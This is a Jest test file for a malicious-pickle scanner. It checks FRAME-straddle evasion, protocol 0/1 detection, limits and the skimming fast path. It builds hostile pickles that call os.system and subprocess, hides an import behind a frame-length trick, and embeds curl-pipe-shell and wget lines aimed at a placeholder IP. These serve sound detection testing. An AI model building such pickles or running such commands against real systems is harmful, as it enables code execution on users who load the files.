// Reading the stream the way the real unpickler does: FRAME divergence, protocol 0/1 recognition, limits,
// bounded work on huge declarations, chunk edges.
import { describe, expect, test } from '@jest/globals'
import type { ByteSource } from '../src/engine/source.js'
import { PB, find, rules, runPickle, scanBytes, u64le } from './helpers/pickle.js'
import { looksLikePickle } from '../src/analyzers/pickle/index.js'
import { walkPickle } from '../src/analyzers/pickle/sniff.js'
import { OPCODE_COUNT, OPS } from '../src/analyzers/pickle/opcodes.js'
import { AnalysisContext, FileRun } from '../src/engine/context.js'
import { DEFAULT_LIMITS } from '../src/engine/limits.js'
import { dispatch } from '../src/engine/dispatch.js'
import { analyzePickle } from '../src/analyzers/pickle/index.js'
import { PickleMachine, type Shared } from '../src/analyzers/pickle/machine.js'
import { BufferSource } from '../src/engine/source.js'

describe('opcode table', () => {
  test('has the 68 opcodes of protocols 0-5', () => {
    expect(OPCODE_COUNT).toBe(68)
    expect(OPS.filter(Boolean)).toHaveLength(68)
    expect(OPS[0x93]!.name).toBe('STACK_GLOBAL')
    expect(OPS[0x98]!.proto).toBe(5)
  })
})

describe('O7: FRAME straddle', () => {
  // FRAME covers 'B' and two bytes of its 4-byte length. pickle.loads reads straight through: the length is
  // 0x10 + ... and the os.system code below is just bytes. The C unpickler reading a BytesIO drops the two
  // frame bytes, reads the length (0) after the frame and then executes the GLOBAL.
  const drop = Buffer.from("cos\nsystem\n(S'echo modelgate-marker'\ntR0", 'latin1')
  const p = new PB()
    .proto(4)
    .frame(3)
    .raw(0x42, drop.length + 2, 0x00)
    .raw(0, 0, 0, 0)
    .raw(drop)
    .stop()
    .bytes()
  const globalAt = 18

  test('both readings are analysed; the hidden import is reported at its real offset', async () => {
    expect(p.subarray(globalAt, globalAt + 3).toString('latin1')).toBe('cos')
    const o = await scanBytes(p)
    expect(o.imports).toEqual(['os.system'])
    expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical', 'PKL-014:medium', 'PKL-050:medium'])
    expect(find(o.findings, 'PKL-001')[0]!.offset).toBe(globalAt)
    expect(find(o.findings, 'PKL-050')[0]!.offset).toBe(11)
  })

  test('the sequential reading alone sees only bytes', async () => {
    // Same stream without FRAME: no straddle, no fork, nothing imported.
    const plain = Buffer.concat([Buffer.from([0x80, 0x04]), p.subarray(11)])
    const o = await scanBytes(plain)
    expect(o.imports).toEqual([])
    expect(rules(o.findings)).toEqual([])
  })

  test('a FRAME inside an unfinished frame is reported', async () => {
    const q = new PB().proto(4).frame(12).op('NONE').frame(2).op('POP', 'NONE').stop().bytes()
    const o = await runPickle(q)
    expect(rules(o.findings)).toEqual(['PKL-050:medium'])
  })

  test('real framed pickles (protocol 4/5) raise nothing', async () => {
    const framed = new PB().proto(4).frame(5).op('EMPTY_LIST').sbu('ab').op('APPEND', 'STOP').bytes()
    const o = await runPickle(framed)
    expect(o.findings).toEqual([])
    expect(o.result).toMatchObject({ pickles: 1, complete: true, end: framed.length, proto: 4 })
  })
})

describe('protocol 0/1 recognition (O8)', () => {
  const proto0 = new PB().raw("(dp0\nVkey\np1\nI1\nsS's'\np2\nF2.5\ns.").bytes()

  test('accepts protocol 0/1 pickles without magic', () => {
    expect(looksLikePickle(proto0, true)).toBe(true)
    expect(looksLikePickle(new PB().raw('cos\nsystem\n(Vid\ntR.').bytes(), true)).toBe(true)
    expect(looksLikePickle(new PB().raw(']q\x00(K\x01K\x02e.').bytes(), true)).toBe(true)
    expect(looksLikePickle(new PB().raw('N.').bytes(), true)).toBe(true)
  })

  test('rejects text, JSON, CSV, YAML and source code', () => {
    for (const text of [
      'hello world\n',
      '{"a": [1, 2, 3]}\n',
      '[1, 2, 3]\n',
      'a,b,c\n1,2,3\n',
      'key: value\nlist:\n  - 1\n',
      'import os\nos.system("ls")\n',
      'def f():\n    return 1\n',
      '# Title\n\nSome text.\n',
      '0.5\n',
      '123\n',
      '(not a pickle)\n',
      'I am text\n',
      'cos\nsystem\n',
      '((((((((((((((((((((',
      'NNNNNNNNNNNNNNNNNNNNNNNN'
    ])
      expect([text, looksLikePickle(Buffer.from(text), true)]).toEqual([text, false])
  })

  test('a protocol 0 pickle named .txt is still analysed as a pickle', async () => {
    const o = await scanBytes(new PB().raw("cos\nsystem\n(S'id'\ntR.").bytes(), 'weights.txt')
    expect(o.formats).toEqual(['pickle'])
    expect(rules(o.findings)).toEqual(['GEN-002:medium', 'PKL-001:critical', 'PKL-010:critical'])
  })

  test('a broken protocol 0 payload (long valid prefix with imports) is recognised', () => {
    const body = '(lp0\n' + 'I1\na'.repeat(40) + "cos\nsystem\n(S'id'\ntR"
    expect(looksLikePickle(Buffer.from(body + '\xff\xff', 'latin1'), true)).toBe(true)
  })

  test('the walk follows stack discipline and the memo', () => {
    expect(walkPickle(Buffer.from('(lp0\ng0\na.'), true).status).toBe('stop')
    expect(walkPickle(Buffer.from('(lp0\ng1\na.'), true).status).toBe('error')
    expect(walkPickle(Buffer.from('a.'), true).status).toBe('error')
  })

  test('legacy torch magic is left to the PyTorch legacy analyzer', async () => {
    const legacy = Buffer.from([
      0x80, 0x02, 0x8a, 0x0a, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19, 0x2e
    ])
    const o = await scanBytes(legacy, 'model.pt')
    expect(o.formats).toEqual(['pytorch-legacy'])
  })
})

describe('limits and bounded work', () => {
  const many = (n: number) => {
    const p = new PB().proto(2).op('EMPTY_LIST', 'MARK')
    for (let i = 0; i < n; i++) p.int1(i & 0xff)
    return p.op('APPENDS', 'STOP').bytes()
  }

  test('maxOpcodes → GEN-007 (findings before it are kept)', async () => {
    const head = new PB().proto(2).global('os', 'system').op('POP').bytes()
    const o = await scanBytes(Buffer.concat([head, many(500).subarray(2)]), 'model.pkl', { maxOpcodes: 100 })
    expect(rules(o.findings)).toEqual(['GEN-007:high', 'PKL-001:critical'])
    expect(find(o.findings, 'GEN-007')[0]!.message).toMatch(/more than 100 pickle opcodes/)
  })

  test('maxStack → GEN-007', async () => {
    const o = await scanBytes(many(500), 'model.pkl', { maxStack: 100 })
    expect(rules(o.findings)).toEqual(['GEN-007:high'])
  })

  test('maxMemo → GEN-007', async () => {
    const p = new PB().proto(2)
    for (let i = 0; i < 50; i++) p.bu(`s${i}`).longBinput(i * 1000)
    const o = await scanBytes(p.op('STOP').bytes(), 'model.pkl', { maxMemo: 10 })
    expect(rules(o.findings)).toEqual(['GEN-007:high'])
  })

  test('GET expansion and DUP chains are PKL-040', async () => {
    const p = new PB().proto(2).op('EMPTY_LIST').binput(0)
    for (let i = 0; i < 1200; i++) p.binget(0).op('POP')
    for (let i = 0; i < 101; i++) p.op('DUP', 'POP')
    const o = await runPickle(p.op('STOP').bytes())
    expect(rules(o.findings)).toEqual(['PKL-040:medium'])
    expect(find(o.findings, 'PKL-040')).toHaveLength(2)
  })

  test('a 2^60-byte BINBYTES8 is rejected without reading or allocating', async () => {
    let reads = 0
    const bytes = new PB()
      .proto(4)
      .raw(0x8e, u64le(2n ** 60n))
      .bytes()
    const src: ByteSource = {
      size: bytes.length,
      async read(o, n) {
        reads++
        return bytes.subarray(o, o + n)
      }
    }
    const run = new FileRun('t', DEFAULT_LIMITS, dispatch)
    const res = await analyzePickle(src, new AnalysisContext(run, undefined, 0, 't.pkl'))
    expect(reads).toBeLessThanOrEqual(2)
    expect(res.complete).toBe(false)
    expect(rules(run.findings)).toEqual(['PKL-050:medium'])
  })

  test('large byte strings are skipped, not read', async () => {
    const big = 8 * 1024 * 1024
    const headerLen = 2 + 9
    const header = new PB().proto(4).raw(0x8e, u64le(big)).bytes()
    const tail = new PB().op('POP').callGlobal('os', 'system', 'id').stop().bytes()
    const size = headerLen + big + tail.length
    let bytesRead = 0
    const src: ByteSource = {
      size,
      async read(o, n) {
        const len = Math.max(0, Math.min(n, size - o))
        bytesRead += len
        const out = Buffer.alloc(len)
        for (let i = 0; i < len; i++) {
          const a = o + i
          out[i] = a < headerLen ? header[a]! : a >= headerLen + big ? tail[a - headerLen - big]! : 0x41
        }
        return out
      }
    }
    const run = new FileRun('t', DEFAULT_LIMITS, dispatch)
    const res = await analyzePickle(src, new AnalysisContext(run, undefined, 0, 't.pkl'))
    expect(res).toMatchObject({ complete: true, pickles: 1 })
    expect([...run.imports]).toEqual(['os.system'])
    expect(bytesRead).toBeLessThan(4 * 1024 * 1024)
  })

  test('opcodes and strings spanning 1 MiB window edges are read exactly', async () => {
    for (const pad of [0, 3]) {
      const p = new PB().proto(2)
      for (let i = 0; i < pad; i++) p.op('NONE', 'POP')
      for (let i = 0; i < 110000; i++) p.bu(`key-${i}`).op('POP')
      const bytes = p.callGlobal('subprocess', 'call', 'ls').stop().bytes()
      expect(bytes.length).toBeGreaterThan(1 << 20)
      const o = await runPickle(bytes)
      expect(o.imports).toEqual(['subprocess.call'])
      expect(o.result.opcodes).toBe(1 + 2 * pad + 220000 + 5)
      expect(o.result).toMatchObject({ complete: true, end: bytes.length })
    }
  })

  describe('bulk data fast path', () => {
    /** A list filled by `batches` APPENDS of `per` (int, float, 'abc') tuples; `inject` adds bytes to batch k. */
    const bulk = (batches: number, per: number, opts: { memo?: boolean; inject?: [number, Buffer] } = {}) => {
      const p = new PB().proto(4).op('EMPTY_LIST')
      let count = 2
      for (let k = 0; k < batches; k++) {
        p.op('MARK')
        count++
        for (let i = 0; i < per; i++) {
          p.int4(k * per + i)
            .raw(0x47, Buffer.alloc(8))
            .sbu('abc')
            .op('TUPLE3')
          count += 4
          if (opts.memo) {
            p.op('MEMOIZE')
            count++
          }
        }
        if (opts.inject && opts.inject[0] === k) p.raw(opts.inject[1])
        p.op('APPENDS')
        count++
      }
      return { p, count }
    }

    test('batches of plain tuples are counted exactly and what follows is analysed', async () => {
      const { p, count } = bulk(300, 200)
      const bytes = p.callGlobal('os', 'system', 'id').op('TUPLE2', 'STOP').bytes()
      const o = await runPickle(bytes)
      expect(o.result.opcodes).toBe(count + 6)
      expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical'])
      expect(o.result).toMatchObject({ complete: true, end: bytes.length })
    })

    test('an import inside a late batch is not skimmed over', async () => {
      const inject = new PB().callGlobal('os', 'system', 'id').bytes()
      const { p } = bulk(300, 200, { inject: [250, inject] })
      const o = await runPickle(p.stop().bytes())
      expect(o.imports).toEqual(['os.system'])
      expect(rules(o.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical'])
    })

    test('a suspicious string inside a late batch is still checked', async () => {
      const inject = new PB().sbu('curl http://203.0.113.9/x | sh').bytes()
      const { p } = bulk(300, 200, { inject: [280, inject] })
      const o = await runPickle(p.stop().bytes())
      expect(rules(o.findings)).toEqual(['PKL-060:low'])
    })

    test('memoised tuples past the keep budget: memo keys stay exact, strings stored later still resolve', async () => {
      const { p, count } = bulk(80, 1000, { memo: true })
      // memo key 0 is the first tuple (kept exactly), 79999 the last (kept opaquely)
      p.sbu('posix').op('MEMOIZE', 'POP').binget(0).op('POP').longBinget(79999).op('POP')
      p.longBinget(80000).sbu('system').op('STACK_GLOBAL', 'TUPLE2', 'STOP')
      const o = await runPickle(p.bytes())
      expect(o.imports).toEqual(['posix.system'])
      expect(rules(o.findings)).toEqual(['PKL-001:critical'])
      expect(o.result.opcodes).toBe(count + 12)
    })

    test('skimming changes nothing but speed (same findings and result with and without it)', async () => {
      const inject = new PB().sbu('wget http://203.0.113.9/x').bytes()
      const { p } = bulk(120, 1000, { memo: true, inject: [100, inject] })
      const bytes = p.callGlobal('os', 'system', 'id').op('TUPLE2', 'STOP').bytes()
      const run = async (skim: boolean) => {
        const fr = new FileRun('t', DEFAULT_LIMITS, dispatch)
        const ctx = new AnalysisContext(fr, undefined, 0, 't.pkl')
        const shared: Shared = {
          result: { imports: [], persistentIds: [], end: 0, pickles: 0, complete: false, arrays: [] },
          once: new Set(),
          forks: [],
          forkCount: 0,
          decoded: 0,
          stringFindings: 0,
          ext: new Map(),
          arrays: 0,
          repeats: new Map(),
          importCounts: new Map()
        }
        const m = new PickleMachine(new BufferSource(bytes), ctx, 'generic', shared)
        ;(m as any).skimOk = skim
        await m.run(0, false)
        return { findings: fr.findings, result: shared.result, ops: m.executed, wins: (m as any).skimWins as number }
      }
      const fast = await run(true)
      const slow = await run(false)
      expect(fast.wins).toBeGreaterThan(30)
      expect(slow.wins).toBe(0)
      expect(fast.findings).toEqual(slow.findings)
      expect(fast.result).toEqual(slow.result)
      expect(fast.ops).toBe(slow.ops)
      expect(rules(fast.findings)).toEqual(['PKL-001:critical', 'PKL-010:critical', 'PKL-060:low'])
    })
  })

  describe('compact memo past the keep budget', () => {
    test('a pickle of many memoised records stays within maxMemo', async () => {
      const p = new PB().proto(4).op('EMPTY_LIST', 'MEMOIZE')
      // {'id': i, 'name': 'r<i>'} records as pickle.dumps writes them: 240000 memo entries, maxMemo 70000
      for (let i = 0; i < 120000; i++)
        p.op('EMPTY_DICT', 'MEMOIZE', 'MARK')
          .sbu('id')
          .int4(i)
          .sbu('name')
          .sbu(`r${i}`)
          .op('MEMOIZE', 'SETITEMS', 'APPEND')
      const bytes = p.stop().bytes()
      const o = await runPickle(bytes, {}, { maxMemo: 70000 })
      expect(o.findings).toEqual([])
      expect(o.result).toMatchObject({ complete: true, end: bytes.length })
    })

    test('late memo entries keep what matters: strings resolve, tensors stay tensors, bytes stay payloads', async () => {
      const p = new PB().proto(2).op('EMPTY_LIST')
      for (let i = 0; i < 70000; i++) p.op('EMPTY_DICT').longBinput(i).op('APPEND')
      const inner = new PB().proto(2).callGlobal('os', 'system', 'id').stop().bytes()
      p.bu('posix').longBinput(70000).bu('system').longBinput(70001).bb(inner).longBinput(70002)
      p.op('POP', 'POP', 'POP')
      // a tensor memoised late, fetched again and written into (CVE-2026-24747 shape)
      p.global('torch._utils', '_rebuild_tensor_v2').op('EMPTY_TUPLE', 'REDUCE').longBinput(70003).op('POP')
      p.longBinget(70003).op('MARK').int1(0).int1(1).op('SETITEMS', 'POP')
      p.longBinget(70000).longBinget(70001).op('STACK_GLOBAL', 'POP')
      p.global('pickle', 'loads').longBinget(70002).op('TUPLE1', 'REDUCE', 'POP', 'STOP')
      const o = await runPickle(p.bytes(), { profile: 'torch-weights' })
      expect(o.imports).toEqual(['torch._utils._rebuild_tensor_v2', 'posix.system', 'pickle.loads', 'os.system'])
      expect(rules(o.findings)).toEqual(
        expect.arrayContaining(['PKL-001:critical', 'PKL-011:critical', 'PKL-013:high', 'PT-014:high'])
      )
    })
  })
})
